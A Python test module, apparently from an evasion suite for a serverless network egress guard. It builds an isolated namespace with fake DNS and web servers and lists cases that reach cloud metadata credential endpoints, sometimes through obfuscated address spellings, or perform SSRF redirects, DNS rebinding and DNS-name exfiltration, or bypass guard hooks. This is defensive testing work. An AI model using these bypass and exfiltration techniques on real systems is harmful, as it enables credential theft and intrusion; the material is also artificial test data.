"""The network door: going out where the policy says no, or where the caller wants to go.

Most rows run in a network of their own (a namespace, made by the interpreter itself before the guard comes) with the metadata
service's address, private and public ones, and a name server; a connection to the public 203.0.113.7 is no harm, to any
other address it makes the canary, and so does a look-up under ``leak.test``.
"""

import subprocess

from evasions.harness import Case

WORLD = """
import ctypes, socket, socketserver, struct, subprocess
_libc = ctypes.CDLL(None)
if _libc.unshare(0x40020000):
    _ids = os.getuid(), os.getgid()
    if _libc.unshare(0x50020000): raise SystemExit('no namespace')
    open('/proc/self/setgroups', 'w').write('deny')
    open('/proc/self/uid_map', 'w').write(f'0 {_ids[0]} 1')
    open('/proc/self/gid_map', 'w').write(f'0 {_ids[1]} 1')
_do = lambda *a: subprocess.run(a, check=True, stdin=subprocess.DEVNULL)
_do('mount', '--make-rprivate', '/')
open(CANARY + '.resolv', 'w').write('nameserver 127.0.0.53\\noptions timeout:1 attempts:1\\n')
open(CANARY + '.hosts', 'w').write('127.0.0.1 localhost\\n::1 localhost\\n')
_do('mount', '--bind', CANARY + '.resolv', '/etc/resolv.conf')
_do('mount', '--bind', CANARY + '.hosts', '/etc/hosts')
_do('ip', 'link', 'set', 'lo', 'up')
for _a in '169.254.169.254 169.254.170.2 169.254.79.129 10.0.0.5 203.0.113.7 203.0.113.8'.split():
    _do('ip', 'addr', 'add', _a + '/32', 'dev', 'lo')
_do('ip', 'addr', 'add', 'fd00:ec2::254/128', 'dev', 'lo', 'nodad')
for _ in range(200):  # the kernel makes the way to it a little later
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as _way:
        if not _way.connect_ex(('fd00:ec2::254', 9)): break
    time.sleep(0.02)
_NAMES = {'good.test': ['203.0.113.7'], 'other.test': ['203.0.113.8'], 'inner.test': ['10.0.0.5'], 'db.inner.test': ['10.0.0.5'],
          'meta.test': ['169.254.169.254'], 'local.test': ['127.0.0.1'], 'rebind.test': ['203.0.113.7', '10.0.0.5'],
          'shop.good.test': ['203.0.113.7']}
def _touch(): open(CANARY, 'a').close()
def _serve_names(sock):
    while True:
        question, peer = sock.recvfrom(4096)
        labels, at = [], 12
        while question[at]:
            labels.append(question[at + 1:at + 1 + question[at]].decode().lower()); at += 1 + question[at]
        name, kind = '.'.join(labels), question[at + 2]
        if name.endswith(('leak.test', 'in-addr.arpa')): _touch()
        known = _NAMES.get(name, [])
        found = known.pop(0) if kind == 1 and len(known) > 1 else known[0] if kind == 1 and known else ''
        answer = b'\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\0\\0\\4' + socket.inet_aton(found) if found else b''
        head = struct.pack('>6H', int.from_bytes(question[:2], 'big'), 0x8180 if known else 0x8183, 1, bool(answer), 0, 0)
        sock.sendto(head + question[12:at + 5] + answer, peer)
def _serve_web(listener):
    while True:
        one, _ = listener.accept()
        here = one.getsockname()[0].removeprefix('::ffff:')
        if here != '203.0.113.7': _touch()
        one.settimeout(0.5)
        try:
            path = one.recv(4096).partition(b' ')[2].partition(b' ')[0]
            if path.startswith(b'/to/'): one.sendall(b'HTTP/1.1 302 Found\\r\\nConnection: close\\r\\nContent-Length: 0\\r\\nLocation: http://' + path[4:] + b'/\\r\\n\\r\\n')
            else: one.sendall(b'HTTP/1.1 200 OK\\r\\nConnection: close\\r\\nContent-Length: 2\\r\\n\\r\\nok')
        except OSError: pass
        one.close()
def _serve_datagrams(sock):
    while True: sock.recvfrom(4096); _touch()
_names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); _names.bind(('127.0.0.53', 53))
_jobs = [(_serve_names, _names)]
for _port in (80, 8080, 9001, 2773):
    _jobs.append((_serve_web, socket.create_server(('::', _port), family=socket.AF_INET6, dualstack_ipv6=True)))
for _port in (80, 2000):
    _udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); _udp.setsockopt(41, 26, 0); _udp.bind(('::', _port)); _jobs.append((_serve_datagrams, _udp))
_parent = os.getpid()
if not os.fork():
    import threading
    for _job, _sock in _jobs: threading.Thread(target=_job, args=(_sock,), daemon=True).start()
    for _ in range(600):
        if os.getppid() != _parent: break
        time.sleep(0.05)
    import select
    _quiet = 0
    while _quiet < 3:  # what came before the end is served
        _quiet = 0 if select.select([_sock for _, _sock in _jobs], [], [], 0.02)[0] else _quiet + 1
    os._exit(0)
for _, _sock in _jobs: _sock.close()
"""
_PROBE = [
    "unshare",
    "-r",
    "-n",
    "-m",
    "sh",
    "-c",
    "mount --make-rprivate / && ip link set lo up && ip addr add 10.0.0.5/32 dev lo",
]


def _possible():
    try:
        return subprocess.run(_PROBE, capture_output=True, check=False, timeout=20).returncode == 0
    except OSError:
        return False


POSSIBLE = str(_possible())
FREE = {"injection": "off"}
NONE = {"injection": "off", "egress": []}
GOOD = {"injection": "off", "egress": ["good.test"]}
META = {"u": "http://169.254.169.254/latest/meta-data/"}


def world(name, body, before="", **more):
    """A row in a network of its own."""
    return Case(name, body, before=WORLD + before, only=POSSIBLE, **{"settings": FREE, **more})


def made(name, body, before="", **more):
    """The same, of what must keep working: the handler makes the canary when it got there."""
    return world(name, body + "\nopen(CANARY, 'w').close()", before, expect="works", **more)


def local(name, body, url="http://127.0.0.1:PORT/", **more):
    """A row against a listener on loopback whose address the caller chose."""
    return Case(name, body, event={"u": url}, listen=True, **{"settings": FREE, **more})


URLLIB = "import urllib.request; urllib.request.urlopen(event['u'], timeout=3)"
REQUESTS = "import requests; requests.get(event['u'], timeout=3)"
HTTPX = "import httpx; httpx.get(event['u'], follow_redirects=True, timeout=3)"
URLLIB3 = "import urllib3; urllib3.PoolManager(retries=urllib3.Retry(2)).request('GET', event['u'], timeout=3)"
AIOHTTP = """
import asyncio, aiohttp
async def get():
    async with aiohttp.ClientSession() as session:
        async with session.get(event['u']) as response: await response.read()
asyncio.run(get())
"""
TCP = "import socket; socket.create_connection({}, 3)"
HTTPLIB = "import http.client; c = http.client.HTTPConnection({!r}, {}, timeout=3); c.request('GET', '/'); c.getresponse()"
REDIRECT = {"u": "http://good.test:8080/to/10.0.0.5:8080"}

SPELLINGS = {
    "decimal": "2852039166",
    "octal": "0251.0376.0251.0376",
    "hexadecimal": "0xa9fea9fe",
    "two parts": "169.16689662",
    "mixed": "0xa9.254.43518",
    "mapped": "::ffff:169.254.169.254",
    "mapped, in hexadecimal": "::ffff:a9fe:a9fe",
    "IPv6": "fd00:ec2::254",
    "a name": "meta.test",
    "a name with a final dot": "META.test.",
}
RUNTIME = {
    "127.0.0.1": "127.0.0.1",
    "localhost": "localhost",
    "a short form": "127.1",
    "zero": "0",
    "nothing": "",
    "another loopback address": "127.9.9.9",
    "IPv6": "::1",
    "mapped": "::ffff:127.0.0.1",
    "a name": "local.test",
}

CASES = [
    # Where credentials are served.
    world("metadata through urllib", URLLIB, event=META),
    world("metadata through requests", REQUESTS, event=META),
    world("metadata by the function's own choice", TCP.format("('169.254.169.254', 80)")),
    world("container credentials by connect_ex", "import socket; socket.socket().connect_ex(('169.254.170.2', 80))"),
    world("metadata by a datagram", "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('169.254.169.254', 80))"),
    world("metadata by sendmsg", "import socket; socket.socket(type=socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('169.254.169.254', 80))"),
    world("metadata by TCP fast open", "import socket; socket.socket().sendto(b'x', socket.MSG_FASTOPEN, ('169.254.169.254', 80))"),
    world("metadata though every host is listed", REQUESTS, event=META, settings={"injection": "off", "egress": ["*", "0.0.0.0/0", "::/0"]}),
    world("metadata after a redirect", REQUESTS, event={"u": "http://good.test:8080/to/169.254.169.254"}),
    *(world(f"metadata spelled as {what}", TCP.format((host, 80))) for what, host in SPELLINGS.items()),
    *(world(f"the runtime API as {what}", "import socket\ns = socket.socket({})\ns.connect(({!r}, 9001))".format(
        "socket.AF_INET6" if ":" in host else "", host)) for what, host in RUNTIME.items()),
    # Where the caller wants to go.
    local("a loopback URL through urllib", URLLIB),
    local("a loopback URL through requests", REQUESTS),
    local("a loopback URL through httpx", HTTPX),
    local("a loopback name through pymongo", "import pymongo; pymongo.MongoClient(event['u'], serverSelectionTimeoutMS=900).admin.command('ping')", "mongodb://localhost:PORT/x",
          only="__import__('importlib.util').util.find_spec('pymongo') is not None"),
    local("a loopback URL through aiohttp", AIOHTTP),
    local("a loopback URL through urllib3", URLLIB3),
    local("a loopback URL in the name of localhost", REQUESTS, "http://localhost:PORT/"),
    local("a loopback URL in decimal", REQUESTS, "http://2130706433:PORT/"),
    local("a loopback URL after another host's name", REQUESTS, "http://api.example.com@127.0.0.1:PORT/"),
    local("a loopback URL, percent-encoded", "import requests, urllib.parse; requests.get(urllib.parse.unquote(event['u']), timeout=3)",
          "http%3A%2F%2F127.0.0.1%3APORT%2F"),
    local("a loopback URL in base64", "import base64, requests; requests.get(base64.b64decode(event['u'].split()[0]).decode(), timeout=3)",
          "aHR0cDovL2xvY2FsaG9zdDo4MDgwLw== ", expect="blocked", bare=False),
    local("a loopback URL though loopback is listed", REQUESTS, settings={"injection": "off", "egress": ["127.0.0.0/8", "*"]}),
    local("a host alone, to which the code adds the rest", "import requests; requests.get('http://' + event['u'] + ':' + str(PORT) + '/x', timeout=3)",
          "127.0.0.1"),
    local("a loopback host in the midst of JSON", "import json, requests; requests.get(json.loads(event['u'])['to'][0], timeout=3)",
          '{"to": ["http://127.0.0.1:PORT/"]}'),
    local("a loopback URL, in a thread", "import threading, urllib.request\nt = threading.Thread(target=urllib.request.urlopen, args=(event['u'],)); t.start(); t.join()"),
    local("a loopback URL, swallowed", f"try:\n    {URLLIB}\nexcept: pass"),
    world("a name of the caller's that leads inwards", REQUESTS, event={"u": "http://inner.test:8080/"}),
    world("a name of the caller's under the code's label", "import requests; requests.get('http://db.' + event['u'] + ':8080/', timeout=3)", event={"u": "inner.test"}),
    world("a private URL though its network is listed", REQUESTS, event={"u": "http://10.0.0.5:8080/"}, settings={"injection": "off", "egress": ["10.0.0.0/8"]}),
    world("a redirect inwards through urllib", URLLIB, event=REDIRECT),
    world("a redirect inwards through requests", REQUESTS, event=REDIRECT),
    world("a redirect inwards through urllib3", URLLIB3, event=REDIRECT),
    world("a redirect inwards through httpx", HTTPX, event=REDIRECT),
    world("a redirect inwards through aiohttp", AIOHTTP, event=REDIRECT),
    world("a redirect of somebody else's host", "import requests; requests.get('http://good.test:8080/to/' + 'tset.renni'[::-1] + ':8080', timeout=3)"),
    world("a name that is bound anew", "import socket\nfor _ in range(2): socket.create_connection(('rebind.test', 8080), 3)"),
    world("a listed name that is bound anew", "import socket\nfor _ in range(2): socket.create_connection(('rebind.test', 8080), 3)",
          settings={"injection": "off", "egress": ["rebind.test"]}),
    Case("a file by its URL", "import urllib.request; data = urllib.request.urlopen(event['u']).read(); open(CANARY, 'wb').write(data)",
         settings=FREE, event={"u": "file:///etc/hostname"}, only="os.path.exists('/etc/hostname')"),
    # What the list does not hold.
    # Below the libraries
    local("multiprocessing's client", "from multiprocessing.connection import Client\ntry: Client((event['u'].split('/')[2].split(':')[0], int(event['u'].rpartition(':')[2].strip('/'))))\nexcept EOFError: pass"),
    local("asyncio's sock_connect", """
        import asyncio, socket
        async def go():
            sock = socket.socket(); sock.setblocking(False)
            await asyncio.get_running_loop().sock_connect(sock, (event['u'].split('/')[2].split(':')[0], int(event['u'].rpartition(':')[2].strip('/'))))
        asyncio.run(go())
        """),
    local("the C module's socket", "import _socket; _socket.socket(2, 1).connect((event['u'].split('/')[2].split(':')[0], int(event['u'].rpartition(':')[2].strip('/'))))"),
    local("the class's own method, by the base", """
        import _socket, socket
        _socket.socket.connect(socket.socket(), (event['u'].split('/')[2].split(':')[0], int(event['u'].rpartition(':')[2].strip('/'))))
        """),
    local("a socket from a descriptor", """
        import socket
        first = socket.socket(); second = socket.fromfd(first.fileno(), socket.AF_INET, socket.SOCK_STREAM)
        second.connect((event['u'].split('/')[2].split(':')[0], int(event['u'].rpartition(':')[2].strip('/'))))
        """),
    local("a datagram", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (event['u'].split('/')[2].split(':')[0], int(event['u'].rpartition(':')[2].strip('/'))))"),
    local("an address that hashes as one that passed", """
        import socket
        port = int(event['u'].rpartition(':')[2].strip('/'))
        class Host(str):
            def __eq__(self, other): return True
            def __hash__(self): return hash('127.0.0.2')
        try: socket.socket().connect(('127.0.0.2', 9))
        except OSError: pass
        socket.socket().connect((Host(event['u'].split('/')[2].split(':')[0]), port))
        """),
    local("TCP Fast Open by sendto", """
        import socket
        socket.socket().sendto(b'x', getattr(socket, 'MSG_FASTOPEN', 0x20000000), (event['u'].split('/')[2].split(':')[0], int(event['u'].rpartition(':')[2].strip('/'))))
        """, bare=False),
    local("a logging handler's socket", """
        import logging, logging.handlers
        handler = logging.handlers.SocketHandler(event['u'].split('/')[2].split(':')[0], int(event['u'].rpartition(':')[2].strip('/')))
        handler.handle(logging.makeLogRecord({'msg': 'x'}))
        """),
    world("a host that is not listed", TCP.format("('203.0.113.8', 8080)"), settings=GOOD),
    world("nothing is listed", REQUESTS.replace("event['u']", "'http://other.test:8080/'"), settings=NONE),
    world("the right host at the wrong port", TCP.format("('203.0.113.8', 8080)"), settings={"injection": "off", "egress": ["203.0.113.8:443"]}),
    world("a socket of the C module", "import _socket; _socket.socket(2, 1).connect(('203.0.113.8', 8080))", settings=GOOD),
    world("connect taken before the guard", "connect(socket.socket(), ('203.0.113.8', 8080))", "\nimport socket; connect = socket.socket.connect", settings=GOOD),
    world("create_connection taken before the guard", "go(('203.0.113.8', 8080))", "\nfrom socket import create_connection as go", settings=GOOD),
    world("a class that lies about its family", """
        import socket
        class Liar(socket.socket): family = socket.AF_UNIX
        Liar().connect(('203.0.113.8', 8080))
        """, settings=GOOD),
    world("a text that lies to the look-up", """
        import socket
        class Liar(str):
            def encode(self, *a): return b'203.0.113.8'
        socket.create_connection((Liar('good.test'), 8080), 3)
        """, settings=GOOD, expect="stopped"),
    world("a text that lies about itself", """
        import socket
        class Liar(str):
            def __eq__(self, other): return True
            def __hash__(self): return hash('good.test')
            def lower(self): return 'good.test'
        socket.socket().connect((Liar('203.0.113.8'), 8080))
        """, settings=GOOD),
    world("a socket made of a descriptor", """
        import socket, os
        one = socket.socket()
        socket.socket(fileno=os.dup(one.fileno())).connect(('203.0.113.8', 8080))
        """, settings=GOOD),
    world("asyncio streams", "import asyncio; asyncio.run(asyncio.open_connection('203.0.113.8', 8080))", settings=GOOD),
    world("asyncio datagrams", """
        import asyncio
        async def send():
            transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=('203.0.113.8', 80))
            transport.sendto(b'x')
            await asyncio.sleep(0.2)
        asyncio.run(send())
        """, settings=GOOD),
    world("a bare _thread", "import _thread, socket\n_thread.start_new_thread(socket.create_connection, (('203.0.113.8', 8080), 3))\ntime.sleep(0.5)", settings=GOOD),
    world("an empty context", "import contextvars, socket; contextvars.Context().run(socket.create_connection, ('203.0.113.8', 8080), 3)", settings=GOOD),
    world("a timer that outlives the handler", "import threading, socket; threading.Timer(0.3, socket.create_connection, (('203.0.113.8', 8080), 3)).start()",
          settings=GOOD, wait=1.2),
    world("a module that phones home while it is imported", "pass", settings=GOOD,
          module="import socket\ntry: socket.create_connection(('203.0.113.8', 8080), 3)\nexcept OSError: pass"),
    world("a finalizer", """
        import socket
        class Late:
            def __del__(self): socket.create_connection(('203.0.113.8', 8080), 3)
        Late()
        """, settings=GOOD),
    # Names that carry data.
    *(world(f"data in a name, by {what}", f"import socket; {call}", settings=GOOD) for what, call in {
        "getaddrinfo": "socket.getaddrinfo('secret.leak.test', 80)",
        "gethostbyname": "socket.gethostbyname('secret.leak.test')",
        "gethostbyname_ex": "socket.gethostbyname_ex('secret.leak.test')",
        "gethostbyaddr": "socket.gethostbyaddr('secret.leak.test')",
        "gethostbyaddr, in an address": "socket.gethostbyaddr('198.51.100.99')",
        "getnameinfo": "socket.getnameinfo(('198.51.100.99', 80), 0)",
        "getfqdn": "socket.getfqdn('secret.leak.test')",
        "connect": "socket.socket().connect(('secret.leak.test', 80))",
        "sendto": "socket.socket(type=2).sendto(b'x', ('secret.leak.test', 80))",
        "bytes": "socket.getaddrinfo(b'secret.leak.test', 80)",
        "a listed name's look-alike": "socket.getaddrinfo('good.test.leak.test', 80)",
    }.items()),
    world("data in a name, by a reference taken before the guard", "look('secret.leak.test', 80)", "\nfrom _socket import getaddrinfo as look", settings=GOOD),
    # Native code.
    world("a native connect, under lockdown", """
        fd = libc.socket(2, 1, 0)
        libc.connect(fd, bytes([2, 0, 31, 144, 203, 0, 113, 8]) + bytes(8), 16)
        """, "\nlibc = ctypes.CDLL(None)", settings={"injection": "off", "egress": [], "code": "off", "lockdown": True}, expect="stopped"),
    Case("a native execve, under lockdown", """
        pid = libc.fork()
        if not pid:
            libc.execv(b'/bin/touch', (ctypes.c_char_p * 3)(b'touch', CANARY.encode(), None)); libc._exit(1)
        os.waitpid(pid, 0)
        """, before="import ctypes; libc = ctypes.CDLL(None)", settings={"injection": "off", "code": "off", "lockdown": True}, expect="stopped"),
    # What must keep working.
    made("a listed name", TCP.format("('good.test', 8080)"), settings=GOOD),
    made("a listed name, by C's own look-up", "import socket; socket.socket().connect(('good.test', 8080))", settings=GOOD),
    made("a listed name at its port", TCP.format("('good.test', 8080)"), settings={"injection": "off", "egress": ["good.test:8080"]}),
    made("a name under a wildcard", "import requests; requests.get('http://shop.good.test:8080/', timeout=3)", settings={"injection": "off", "egress": ["*.good.test"]}),
    made("a listed network", TCP.format("('203.0.113.8', 8080)"), settings={"injection": "off", "egress": ["203.0.113.0/24:8080"]}),
    made("asyncio to a listed name", "import asyncio; asyncio.run(asyncio.open_connection('good.test', 8080))", settings=GOOD),
    made("aiohttp to a listed name", AIOHTTP.replace("event['u']", "'http://good.test:8080/'"), settings=GOOD),
    made("httpx to a listed name", HTTPX.replace("event['u']", "'http://good.test:8080/'"), settings=GOOD),
    made("a redirect between public hosts", REQUESTS, event={"u": "http://good.test:8080/to/other.test:8080"}),
    made("a public host of the caller's", REQUESTS, event={"u": "http://good.test:8080/hook"}),
    made("a private host of the function's own", "import requests; requests.get('http://inner.test:8080/' + event['u'], timeout=3)",
         event={"u": "../10.0.0.9/'; x"}),
    made("a private host that the environment names and the caller too", REQUESTS, event={"u": "http://inner.test:8080/"}, environ={"API": "http://inner.test:8080"}),
    made("X-Ray's daemon, with an empty list", "import socket; socket.socket(type=2).sendto(b'{}', ('169.254.79.129', 2000))", settings=NONE,
         environ={"AWS_XRAY_DAEMON_ADDRESS": "169.254.79.129:2000"}),
    made("an extension on loopback, with an empty list", "import urllib.request; urllib.request.urlopen('http://localhost:2773/secrets?id=' + event['id'])", settings=NONE),
    made("link-local that is listed as such", TCP.format("('169.254.170.2', 80)"), settings={"injection": "off", "egress": ["169.254.170.2"]}),
    made("Unix sockets, with an empty list", """
        import socket
        server = socket.socket(socket.AF_UNIX); server.bind(CANARY + '.sock'); server.listen()
        socket.socket(socket.AF_UNIX).connect(CANARY + '.sock'); server.accept()
        """.replace("\n        ", "\n"), settings=NONE),
]  # fmt: skip
